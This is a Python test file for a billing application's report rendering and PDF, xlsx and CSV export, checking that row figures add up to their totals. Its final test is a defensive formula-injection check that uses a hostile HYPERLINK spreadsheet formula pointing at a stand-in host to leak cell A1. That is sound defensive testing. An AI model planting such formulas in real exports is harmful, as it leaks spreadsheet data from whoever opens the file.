"""The reports on paper and as files (docs/reports.md): each report rendered from what the real
services return, read back (PDF text, xlsx through openpyxl, CSV through the csv module), and
its rows summed against its totals row and the DTO."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.printing.reports import render_report
from app.services import adjustments, report_export, reports
from app.services.bill_import import import_bills_csv
from db.models import Customer
from tests.printing import pdfcheck
from tests.services.test_payments import add_bill, new_customer
from tests.services.test_reports import TODAY, busy_day


@pytest.fixture
def tables(db, settings, clerk, clerk2, supervisor, customer_form):  # type: ignore[no-untyped-def]
    day = busy_day(db, settings, clerk, clerk2, supervisor, customer_form)
    bill = add_bill(db, clerk, day.b, 8000, period="2026-03")
    adjustments.issue_adjustment(
        db, supervisor, adjustments.IssueAdjustment(bill, -1250, -20, "抄表错误，多计电量")
    )
    (run,) = reports.list_bill_runs(db, supervisor)
    return {
        "collection": reports.tabulate(reports.collection_summary(db, supervisor, TODAY, TODAY, "day")),
        "arrears": reports.tabulate(reports.arrears_list(db, clerk)),
        "reversals": reports.tabulate(reports.undo_list(db, supervisor, "reversal", TODAY, TODAY)),
        "refunds": reports.tabulate(reports.undo_list(db, supervisor, "refund", TODAY, TODAY)),
        "adjustments": reports.tabulate(reports.adjustment_list(db, supervisor, TODAY, TODAY)),
        "bill_run": reports.tabulate(reports.bill_run_bills(db, supervisor, run.op_id)),
    }


def _money(text: str) -> int:
    return int((Decimal(text.replace(",", "")) * 100).to_integral_value())


def test_every_report_prints_with_its_totals(tables, tmp_path):  # type: ignore[no-untyped-def]
    for code, table in tables.items():
        pdf = render_report(table)
        (tmp_path / f"{code}.pdf").write_bytes(pdf)  # to look at: pytest --basetemp=DIR
        text = pdfcheck.text(pdf)
        assert table.header.title in text and "城东营业厅" in text and "第1页/共1页" in text, code
        assert table.header.printed_by in text and re.sub(r"\s+", "", table.header.period_text) in text
        width, height = pdfcheck.sizes_mm(pdf)[0]
        assert (width > height) == table.landscape, code
        for i, column in enumerate(table.columns):
            if column.kind == "money":
                total = table.totals[i]
                assert total == sum(r[i] for r in table.rows), (code, column.key)
                assert f"{total / 100:,.2f}" in text, (code, column.key)


def test_collection_pdf_total_row_reads_back(tables):  # type: ignore[no-untyped-def]
    table = tables["collection"]
    lines = pdfcheck.layout_lines(render_report(table))
    total_line = next(line for line in lines if line.startswith("合计"))
    figures = [_money(x) for x in re.findall(r"-?[\d,]+\.\d\d", total_line)]
    expected = [v for c, v in zip(table.columns, table.totals, strict=True) if c.kind == "money"]
    assert figures == expected
    # each clerk's row: its tender columns add up to its net
    keys = [c.key for c in table.columns]
    for row in table.rows:
        tenders = sum(row[i] for i, k in enumerate(keys) if k.startswith("tender_"))
        assert tenders == row[keys.index("net_fen")]


def test_xlsx_export_has_typed_cells_and_totals(tables, tmp_path):  # type: ignore[no-untyped-def]
    for code, table in tables.items():
        path = report_export.export_report(table, tmp_path / f"{code}.xlsx")
        wb = load_workbook(path)
        ws = wb.active
        labels = [c.label for c in table.columns]
        head = next(
            r for r in range(1, 20) if [ws.cell(r, i + 1).value for i in range(len(labels))] == labels
        )
        assert ws.freeze_panes == f"A{head + 1}", code
        data = [
            [ws.cell(r, i + 1).value for i in range(len(labels))] for r in range(head + 1, ws.max_row + 1)
        ]
        assert len(data) == len(table.rows) + 1, code
        *rows, totals = data
        for i, column in enumerate(table.columns):
            if column.kind == "money":
                assert ws.cell(head + 1, i + 1).number_format == "#,##0.00" or not rows
                got = [round(Decimal(str(r[i])) * 100) for r in rows]
                assert got == [r[i] for r in table.rows], (code, column.key)
                assert round(Decimal(str(totals[i])) * 100) == table.totals[i] == sum(got), (code, column.key)
            if column.kind in ("date", "datetime"):
                for r in rows:
                    assert r[i] is None or isinstance(r[i], dt.datetime), (code, column.key)
            if column.kind == "int":
                assert all(isinstance(r[i], int) for r in rows), (code, column.key)
        assert ws["A1"].value == table.header.title


def test_csv_export_is_utf8_with_bom_and_reads_back(tables, tmp_path):  # type: ignore[no-untyped-def]
    for code, table in tables.items():
        path = report_export.export_report(table, tmp_path / f"{code}.csv")
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), code
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert rows[0] == [c.label for c in table.columns]
        *body, totals = rows[1:]
        assert len(body) == len(table.rows)
        for i, column in enumerate(table.columns):
            if column.kind == "money":
                got = [_money(r[i]) for r in body]
                assert got == [r[i] for r in table.rows]
                assert _money(totals[i]) == sum(got) == table.totals[i], (code, column.key)
    with pytest.raises(Exception, match="xlsx 或 csv"):
        report_export.export_report(tables["arrears"], tmp_path / "x.pdf")
    assert not list(tmp_path.glob("*.part"))


def test_a_long_bill_run_runs_over_pages_with_the_header_repeated(
    db,
    settings,
    clerk,
    supervisor,  # type: ignore[no-untyped-def]
    customer_form,
):
    ids = [new_customer(db, settings, clerk, customer_form) for _ in range(70)]
    with db.read() as s:
        accounts = [s.get(Customer, cid).account_no for cid in ids]
    period = (TODAY.replace(day=1) - dt.timedelta(days=1)).strftime("%Y-%m")
    lines = "".join(f"{acc},{period},{100 + i},{i + 1}.05\n" for i, acc in enumerate(accounts))
    assert import_bills_csv(db, supervisor, f"户号,账期,电量,金额\n{lines}".encode(), settings=settings).ok
    (run,) = reports.list_bill_runs(db, supervisor)
    table = reports.tabulate(reports.bill_run_bills(db, supervisor, run.op_id))
    pages = pdfcheck.page_texts(render_report(table))
    assert len(pages) >= 2
    assert all("账单号" in p and f"共{len(pages)}页" in p for p in pages)
    assert f"{sum(i + 1 for i in range(70)) + 70 * 0.05:,.2f}" in pages[-1]


def test_the_sample_collection_summary_adds_up(tmp_path):  # type: ignore[no-untyped-def]
    """``print-samples``' collection summary: the day of the samples (a reversal, a refund, two
    sessions) read back from the PDF: every row's tenders and its principal + late fee + prepaid
    make its net, and the rows make the totals row."""
    from app.printing.samples import render_samples

    paths = {p.name: p for p in render_samples(tmp_path)}
    lines = pdfcheck.layout_lines(paths["report_collection.pdf"].read_bytes())
    body = [line for line in lines if re.match(r"\d{4}-\d\d-\d\d ", line) and "至" not in line]
    body = [line for line in body if len(re.findall(r"-?[\d,]+\.\d\d", line)) == 11]
    total = next(line for line in lines if line.startswith("合计"))
    assert body, lines

    def figures(line: str) -> list[int]:
        return [_money(x) for x in re.findall(r"-?[\d,]+\.\d\d", line)]

    # columns: 收费, 冲正, 退费, 现金, 银行卡, 扫码, 转账, 本金, 违约金, 预存, 净收 (+ counts between)
    for line in [*body, total]:
        pay, rev, ref, cash, card, qr, transfer, principal, fee, prepaid, net = figures(line)[-11:]
        assert pay + rev + ref == net == cash + card + qr + transfer == principal + fee + prepaid, line
    sums = [sum(col) for col in zip(*(figures(line)[-11:] for line in body), strict=True)]
    assert sums == figures(total)[-11:]
    text = pdfcheck.text(paths["report_collection.pdf"].read_bytes())
    assert "营业厅收费汇总表" in text and "李强" in text


def test_typed_text_is_never_a_formula_in_an_export(tmp_path):  # type: ignore[no-untyped-def]
    """A reason a clerk typed (退补 原因, free text) that looks like a formula stays text: Excel
    or WPS opening the export must not evaluate it (formula injection)."""
    from app.dto.reports import Column, ReportHeader, ReportTable

    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
    header = ReportHeader(
        "退补清单", "营业厅", "3301", "公司", "2026-12-06", dt.datetime.now().astimezone(), "值班长"
    )
    table = ReportTable(
        "adjustments",
        header,
        (Column("reason", "原因", "text", 2.0), Column("amount_fen", "退补金额", "money")),
        ((evil, -1200), ("+1+2", 500), ("@SUM(1)", 100)),
        (None, -600),
    )
    ws = load_workbook(report_export.export_report(table, tmp_path / "a.xlsx")).active
    cells = [c for row in ws.iter_rows() for c in row if c.value in (evil, "+1+2", "@SUM(1)")]
    assert len(cells) == 3 and all(c.data_type == "s" for c in cells)
    raw = report_export.export_report(table, tmp_path / "a.csv").read_bytes().decode("utf-8-sig")
    texts = [r[0] for r in csv.reader(io.StringIO(raw))][1:4]
    assert all(not t.startswith(("=", "+", "-", "@")) for t in texts), texts
    assert [t.lstrip("'") for t in texts] == [evil, "+1+2", "@SUM(1)"]
